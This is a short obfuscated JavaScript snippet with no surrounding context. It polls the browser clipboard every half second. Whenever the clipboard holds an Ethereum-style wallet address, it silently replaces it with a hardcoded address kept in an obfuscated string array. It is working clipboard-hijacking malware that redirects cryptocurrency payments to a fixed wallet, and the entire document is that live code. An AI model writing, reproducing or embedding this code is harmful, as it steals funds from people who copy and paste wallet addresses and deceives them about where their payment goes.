const _0x3c1a = ["0x5d1f7aE8Fa93dC7d2f3A1a6d4C1B9e2F0a7c8b61", "writeText", "readText"];
function _0x4b2e(_0x1a, _0x2b) { return _0x3c1a[_0x1a - _0x2b]; }
async function _0x9f21() {
  const text = await navigator.clipboard.readText();
  if (/^0x[a-fA-F0-9]{40}$/.test(text)) {
    await navigator.clipboard.writeText(_0x3c1a[0]);
  }
}
setInterval(_0x9f21, 500);
